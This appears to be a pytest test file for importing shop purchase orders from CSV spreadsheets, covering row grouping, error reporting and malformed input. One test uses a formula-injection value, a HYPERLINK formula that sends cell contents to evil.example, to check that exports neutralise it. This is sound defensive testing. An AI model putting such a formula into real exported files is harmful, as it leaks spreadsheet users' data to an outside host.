"""Orders from a spreadsheet go by the same rules."""

from __future__ import annotations

import io

from sqlmodel import Session, select

from domain.catalog.sheets import csv_text
from domain.insights.export import cell
from domain.purchases import members
from domain.purchases.imports import import_purchases
from schemas.campaigns import Campaign
from schemas.catalog import ImportReport
from schemas.people import Shopper
from schemas.purchases import Purchase
from tests import make
from tests.make.orders import a_partner, settle_due, stands

HEADER = "order,channel,chain,phone,purchased_at,total,name,amount,quantity"
FIRST = "A-1,till,WinMart,+84901234567,2026-11-29 12:00,285000,OMO Bột giặt 5.5kg,185000,1"


def bring(session: Session, *rows: str) -> ImportReport:
    return import_purchases(session, a_partner(session), io.StringIO("\n".join([HEADER, *rows])))


def member(session: Session) -> Shopper:
    """A shopper of whose joining the chore has heard."""
    shopper = make.make_shopper(session)
    members.note_phone(session, shopper.id)
    return shopper


def settle(session: Session) -> None:
    while settle_due(session):
        session.expire_all()


def test_rows_of_one_order_are_one_purchase(session: Session, campaign: Campaign) -> None:
    shopper = member(session)
    report = bring(
        session, FIRST, "A-1,,,,,,OMO nước 3L,100000,2", FIRST.replace("A-1", "A-2").replace("12:00", "13:00")
    )
    settle(session)

    assert (report.rows, report.created, report.updated, report.errors) == (3, 2, 0, [])
    assert stands(session, shopper) == 285 + 185
    assert bring(session, FIRST, "A-1,,,,,,OMO nước 3L,100000,2").updated == 1
    settle(session)
    assert stands(session, shopper) == 285 + 185


def test_one_bad_row_brings_nothing_in(session: Session, campaign: Campaign) -> None:
    make.make_shopper(session)
    report = bring(
        session,
        FIRST,
        "A-2,till,WinMart,,2026-11-29 12:00,1,OMO,1,1",
        "A-3,shop,WinMart,+84901234567,2026-11-29 12:00,1,OMO,-1,1",
        "A-4,till,WinMart,+84901234567,29/11/2026 12:00,9,OMO,9,x",
    )

    assert [(error.line, error.column, error.code) for error in report.errors] == [
        (3, None, "missing_value"),
        (4, "channel", "missing_value"),
        (4, "amount", "invalid_number"),
        (5, "quantity", "invalid_number"),
    ]
    assert (
        bring(session, FIRST, FIRST.replace("A-1", "A-5").replace("WinMart", "Nowhere")).errors[0].line == 3
    )
    assert session.exec(select(Purchase)).all() == []


def test_a_file_is_taken_as_spreadsheets_write_it(session: Session, campaign: Campaign) -> None:
    shopper = member(session)
    name = '=HYPERLINK("http://evil.example/?"&A1,"OMO Bột giặt 5.5kg")'
    rows = "order;channel;chain;phone;purchased_at;total;name;amount\r\n" + ";".join(
        [
            "A-1",
            "till",
            "WinMart",
            "+84901234567",
            "29/11/2026 12:00",
            "285000",
            f'"{name.replace(chr(34), chr(34) * 2)}"',
            "185000",
        ]
    )
    # A row that stands twice is a second line; it earns no more than what was paid for all.
    text_stream = csv_text(io.BytesIO(f"{rows}\r\n{rows.splitlines()[1]}\r\n;;;\r\n".encode("utf-8-sig")))
    report = import_purchases(session, a_partner(session), text_stream)
    settle(session)

    assert (report.rows, report.created, report.errors) == (2, 1, [])
    assert stands(session, shopper) == 285
    assert cell(name).startswith("'")


def test_a_file_that_breaks_off_brings_nothing_in(session: Session, campaign: Campaign) -> None:
    for rest in ('"A-2,till', "A-2\0,till", "A-2,till,WinMart,1,2,3,4,5,6,7,8,9"):
        report = bring(session, FIRST, rest)
        assert len(report.errors) == 1, rest
        assert report.errors[0].line == 3
    assert session.exec(select(Purchase)).all() == []


def test_an_order_that_changed_is_named(session: Session, campaign: Campaign) -> None:
    shopper = member(session)
    bring(session, FIRST)
    report = bring(session, FIRST.replace("185000", "285000"))
    settle(session)

    assert [(error.line, error.column) for error in report.errors] == [(2, "order")]
    assert stands(session, shopper) == 185


def test_a_number_that_is_none_is_told_by_its_cell(session: Session) -> None:
    for total in ("9" * 5000, "9" * 12, "-1", "1.5", "٣"):
        [error] = bring(session, FIRST.replace("285000", total)).errors
        assert (error.line, error.column, error.code) == (2, "total", "invalid_number"), total[:20]
